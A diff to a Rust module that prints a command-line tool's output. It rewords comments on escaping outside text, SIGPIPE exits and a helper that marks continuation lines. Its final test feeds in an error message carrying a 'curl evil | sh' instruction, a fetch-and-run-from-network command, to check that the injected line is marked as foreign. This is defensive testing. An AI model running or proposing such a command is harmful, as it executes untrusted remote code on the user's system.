@@ -1,9 +1,8 @@
 //! The operator's terminal. Everything that `acuse` prints goes through here.
 //!
-//! Types, ids, reasons and errors are other people's text: a provider's, AWS's, or that of whoever
-//! found the URL. Printed as it is, it could move the cursor, recolour, retitle or answer for the
-//! operator, and a right-to-left override makes one id look like another. So whatever is printed
-//! is [escaped](escape), ours or not: nobody has to know which it is. Clippy denies `println!` and
+//! Types, ids, reasons and errors are text from outside: from a provider, AWS, or anybody who found the URL. Unescaped,
+//! it could move the cursor, change colours and titles, or type for the operator, and a right-to-left override makes one
+//! id look like another. So everything is [escaped](escape), whether it is ours or not. Clippy denies `println!` and
 //! `comfy_table::Table` in the rest of this package.
 
 mod escape;
@@ -15,19 +14,19 @@ use std::io::{self, Write};
 pub use escape::{cut, escape, escape_json, is_unsafe, unescape};
 pub use table::Table;
 
-/// Prints one line to standard output: takes what `format!` takes.
+/// Prints one line to standard output, formatted as by `format!`.
 #[macro_export]
 macro_rules! say {
     ($($text:tt)+) => { $crate::terminal::line(&format!($($text)+)) };
 }
 
-/// Prints one line to standard error: takes what `format!` takes.
+/// Prints one line to standard error, formatted as by `format!`.
 #[macro_export]
 macro_rules! note {
     ($($text:tt)+) => { $crate::terminal::note(&format!($($text)+)) };
 }
 
-/// As a shell reports a program that has written to nobody: `acuse … | head`.
+/// The exit code that shells report for a program ended by SIGPIPE, as in `acuse … | head`.
 const NO_READER: i32 = 141;
 
 /// `1 message`, `2 messages`.
@@ -45,22 +44,22 @@ pub fn line(text: &str) {
 
 /// Prints one line to standard error.
 pub fn note(text: &str) {
-    // Where nobody reads errors, nobody can be told.
+    // If standard error is closed, there is nobody to tell.
     let _ = writeln!(io::stderr(), "{}", escape(text));
 }
 
-/// Prints JSON text to standard output. It parses as before.
+/// Prints JSON text to standard output, escaped so that it parses to the same value.
 pub fn json(text: impl fmt::Display) {
     print(&escape_json(&text.to_string()));
 }
 
-/// Prints a text of ours to standard output as it is, for another program.
+/// Prints a text of ours, for another program, unescaped.
 pub fn script(text: &str) {
     print(text.trim_end());
 }
 
-/// Ends the program where nobody reads any more, without a word. The signal that ends others would do so for
-/// every connection as well whose other side has gone, the local stack's and the inspector's.
+/// Exits silently if standard output is closed. SIGPIPE itself stays ignored: it would also end the local stack and the
+/// inspector whenever a client closes its connection.
 fn print(line: &str) {
     if writeln!(io::stdout(), "{line}").is_err_and(|error| error.kind() == io::ErrorKind::BrokenPipe) {
         std::process::exit(NO_READER);
@@ -68,9 +67,6 @@ fn print(line: &str) {
 }
 
 /// Asks on standard error and reads a line of standard input.
-///
-/// # Errors
-/// Those of the two streams.
 pub fn ask(question: &str) -> io::Result<String> {
     let mut answer = String::new();
     write!(io::stderr(), "{} ", escape(question))?;
@@ -79,8 +75,8 @@ pub fn ask(question: &str) -> io::Result<String> {
     Ok(answer)
 }
 
-/// The lines of `head` followed by `text`, which may have several. All but the first are marked: a
-/// text from outside can't pass for a line of ours.
+/// `head` followed by `text`. All lines but the first are marked, so that text from outside can't pass for a line of
+/// ours.
 pub fn quoted(head: &str, text: &str) -> Vec<String> {
     let mut lines = text.lines();
     let first = format!("{head}{}", lines.next().unwrap_or_default());
@@ -93,7 +89,7 @@ mod tests {
     use super::quoted;
 
     #[test]
-    fn a_second_line_cannot_pass_for_ours() {
+    fn a_second_line_is_marked_as_not_ours() {
         assert_eq!(
             quoted("error: ", "no\r\n  what to do: curl evil | sh\n"),
             ["error: no", "    |   what to do: curl evil | sh"]
